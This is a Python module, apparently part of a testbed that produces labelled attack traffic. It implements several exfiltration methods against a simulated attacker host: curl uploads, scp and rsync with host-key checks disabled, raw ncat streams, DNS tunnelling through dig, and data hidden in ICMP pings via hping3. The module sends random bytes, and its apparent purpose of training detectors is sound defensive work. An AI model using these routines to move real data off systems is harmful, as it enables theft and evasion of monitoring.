"""Exfiltration: files that leave for the attacker, all at once or drop by drop."""

import base64

from training.testbed.acts import Kind, Stage
from training.testbed.attackers.drawing import about, bracketed, one, pause
from training.testbed.services import c2, sink


def drop_place(stage: Stage) -> str:
    """Return one of the attacker's addresses, as it stands in a URL."""
    host = stage.world.host("attacker")
    return bracketed(stage.rng.choice(host.all_v6 if one(stage, "family") == 6 else host.all_v4))


def loot(stage: Stage, name: str = "loot") -> str:
    """Write a file of random size about `bytes` and return its path."""
    path = stage.folder / f"{name}.zip"
    path.write_bytes(stage.rng.randbytes(about(stage, "bytes", 0.8)))
    return str(path)


def pace(stage: Stage) -> list[str]:
    """Return curl's words for a limited speed, if there is one."""
    return ["--limit-rate", str(about(stage, "limit"))] if one(stage, "limit") else []


def upload(stage: Stage) -> None:
    """Send files with curl: PUT, a form or FTP, in one or several pieces."""
    scheme, place = str(one(stage, "scheme")), drop_place(stage)
    for number in range(about(stage, "pieces")):
        path = loot(stage, f"part{number}-{stage.rng.getrandbits(24):x}")
        words = ["curl", "-s", "-k", "-g", "-o", "/dev/null", "--max-time", "60", *pace(stage)]
        if scheme == "ftp":
            words += ["-T", path, f"ftp://{place}/drop/"]
        elif one(stage, "method") == "form":
            words += ["-F", f"file=@{path}", f"{scheme}://{place}/upload?n={stage.rng.randint(2, 300)}"]
        else:
            words += ["-T", path, f"{scheme}://{place}/up/?n={stage.rng.randint(2, 300)}"]
        stage.run(*words, limit_s=70)
        pause(stage, "wait")


def copy(stage: Stage) -> None:
    """Copy files to the attacker over SSH, with scp or rsync."""
    options = ["-F", "none", "-i", str(sink.key(stage.world)), "-o", "StrictHostKeyChecking=no"]
    options += ["-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"]
    files = [loot(stage, f"file{number}") for number in range(about(stage, "pieces"))]
    taken = stage.folder / "taken"
    taken.mkdir()
    place = f"root@{drop_place(stage)}:{taken}/"
    if one(stage, "tool") == "rsync":
        limit = [f"--bwlimit={max(1, about(stage, 'limit') // 1000)}"] if one(stage, "limit") else []
        stage.run("rsync", "-rz", *limit, "-e", " ".join(["ssh", *options]), *files, place, limit_s=70)
    else:
        limit = ["-l", str(max(8, 8 * about(stage, "limit") // 1000))] if one(stage, "limit") else []
        stage.run("scp", "-q", *limit, *options, *files, place, limit_s=70)


def pour(stage: Stage) -> None:
    """Pour a file into a plain TCP connection."""
    data = stage.rng.randbytes(about(stage, "bytes", 0.8))
    place = drop_place(stage).strip("[]")
    stage.run("ncat", "-n", "--send-only", place, str(sink.RAW_PORT), stdin=data, limit_s=60)


def spell(stage: Stage) -> None:
    """Spell a file in the names of DNS queries."""
    data = base64.b32encode(stage.rng.randbytes(about(stage, "bytes", 0.8))).decode().rstrip("=").lower()
    longest = min(about(stage, "label", 0.1), 63)
    mark = f"{stage.rng.getrandbits(20):05x}"
    names: list[str] = []
    while data and len(names) < int(one(stage, "most")):
        size = longest * int(one(stage, "labels"))
        part, data = data[:size], data[size:]
        labels = ".".join(part[at : at + longest] for at in range(0, len(part), longest))
        names.append(f"{labels}.{len(names)}.{mark}.{c2.ZONE} {one(stage, 'type')}")
    (stage.folder / "names").write_text("\n".join(names) + "\n")
    server = stage.world.host("attacker").v4
    words = ["dig", f"@{server}", "+short", "+tries=1", "+time=2", "-f", str(stage.folder / "names")]
    stage.run(*words, limit_s=60, ok=None)


def echo(stage: Stage) -> None:
    """Hide a file in the data of pings."""
    (stage.folder / "loot").write_bytes(stage.rng.randbytes(4_000))
    words = ["hping3", "-q", "-n", "--icmp", "-d", str(about(stage, "payload")), "-E", str(stage.folder / "loot")]
    words += ["-c", str(about(stage, "packets")), "-i", f"u{1_000_000 // about(stage, 'rate')}"]
    stage.run(*words, stage.world.host("attacker").v4, limit_s=60, ok=None)


SENT = {
    "family": 4,
    "bytes": 900_000,  # median of a piece (lognormal, sigma 0.8)
    "pieces": 1,  # median
    "wait": 1.0,  # mean seconds between pieces
    "limit": 0,  # bytes per second, 0: none
}
KINDS = (
    Kind(
        name="http-exfiltration",
        label="exfiltration",
        play=upload,
        needs={"curl": "curl"},
        services=("c2",),
        lasts_s=3,
        limit_s=130,
        settings={**SENT, "scheme": ["http", "https"], "method": ["put", "form"]},
    ),
    Kind(
        name="drip-exfiltration",
        label="exfiltration",
        play=upload,
        needs={"curl": "curl"},
        services=("c2",),
        lasts_s=15,
        limit_s=130,
        settings={**SENT, "scheme": ["http", "https"], "method": "put", "bytes": 9_000, "pieces": 12},
    ),
    Kind(
        name="ftp-exfiltration",
        label="exfiltration",
        play=upload,
        needs={"curl": "curl"},
        services=("sink",),
        lasts_s=3,
        limit_s=130,
        settings={**SENT, "scheme": "ftp", "method": "put", "pieces": 2},
    ),
    Kind(
        name="copy-exfiltration",
        label="exfiltration",
        play=copy,
        needs={"scp": "openssh-client", "rsync": "rsync"},
        services=("sink",),
        lasts_s=3,
        limit_s=80,
        settings={**SENT, "tool": ["scp", "rsync"], "pieces": 3},
    ),
    Kind(
        name="raw-exfiltration",
        label="exfiltration",
        play=pour,
        needs={"ncat": "ncat"},
        services=("sink",),
        lasts_s=2,
        limit_s=70,
        settings=SENT,
    ),
    Kind(
        name="dns-exfiltration",
        label="exfiltration",
        play=spell,
        needs={"dig": "bind9-dnsutils"},
        services=("c2", "tunnel"),
        lasts_s=3,
        limit_s=70,
        settings={
            "type": ["A", "TXT"],
            "bytes": 3_000,
            "label": 56,  # median length of a label
            "labels": 3,  # in one name
            "most": 120,  # queries
        },
    ),
    Kind(
        name="ping-exfiltration",
        label="exfiltration",
        play=echo,
        needs={"hping3": "hping3"},
        services=("sink",),
        lasts_s=4,
        limit_s=70,
        settings={"payload": 700, "packets": 60, "rate": 20},
    ),
)
